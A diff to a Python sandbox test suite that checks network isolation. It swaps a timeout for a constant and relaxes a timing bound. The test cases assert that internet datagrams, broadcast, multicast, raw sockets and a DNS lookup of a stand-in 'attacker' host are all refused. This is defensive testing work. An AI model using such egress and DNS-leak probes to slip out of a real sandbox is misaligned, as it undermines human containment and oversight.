@@ -36,14 +36,14 @@ CASES: list[Case] = [
     ),
     *each(
         "network", "a = socket.socket(type=2); a.bind(('127.0.0.1', 0)); "
-        "socket.socket(type=2).sendto(b'ok', a.getsockname()); a.settimeout(2); assert a.recv(2) == b'ok'",
+        "socket.socket(type=2).sendto(b'ok', a.getsockname()); a.settimeout(SECONDS); assert a.recv(2) == b'ok'",
         [
             ("a datagram to the internet", "refused(lambda: socket.socket(type=2).sendto(b'x', ('192.0.2.1', 53)), 101)"),
             ("broadcast", "s = socket.socket(type=2); s.setsockopt(1, 6, 1); "
              "refused(lambda: s.sendto(b'x', ('255.255.255.255', 9)), 101)"),
             ("multicast", "refused(lambda: socket.socket(type=2).sendto(b'x', ('224.0.0.1', 9)), 101)"),
             ("names", "began = time.monotonic()\nrefused(lambda: socket.getaddrinfo('secret.attacker.example', 80), "
-             "-2, -3, -5)\nassert time.monotonic() - began < 2"),
+             "-2, -3, -5)\nassert time.monotonic() - began < 4.5"),
             ("a raw socket", "refused(lambda: socket.socket(2, 3, 1), 1)"),
             ("a raw socket, version 6", "refused(lambda: socket.socket(10, 3, 58), 1)"),
         ],
